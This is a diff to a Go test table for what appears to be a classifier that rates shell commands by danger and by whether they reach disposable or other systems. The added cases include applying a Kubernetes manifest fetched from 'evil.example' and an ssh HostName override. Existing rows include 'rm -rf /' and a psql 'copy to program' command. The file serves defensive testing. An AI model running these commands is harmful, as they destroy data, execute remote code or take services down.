@@ -132,6 +132,10 @@ func TestLandsElsewhere(t *testing.T) {
 		{"sudo kubectl scale deploy web --replicas 0", Dangerous, Uncertain},
 		{"AWS_ACCESS_KEY_ID=AKIA aws ec2 create-tags --resources i-1 --tags Key=a,Value=b", Moderate, Uncertain},
 		{"scp README.md box:/srv/", Moderate, Elsewhere},
+		{"kubectl config set-cluster kc --server https://x.example && kubectl --context sand scale deploy web --replicas 0", Moderate, Uncertain},
+		{"ssh sandbox -o HostName=other touch /srv/x", Moderate, Elsewhere},
+		{"ssh sandbox touch /srv/x", Moderate, Disposable},
+		{"kubectl --context sand apply -f https://evil.example/sand", Moderate, Disposable}, // asks, since it fetches elsewhere
 		{"psql -d sand_test -c 'drop table t'", Moderate, Disposable},
 		{"psql -d sand_test -c \"copy t to program 'x'\"", Dangerous, Disposable}, // it does more than change data
 		{"rm -rf /", Blocked, Elsewhere},
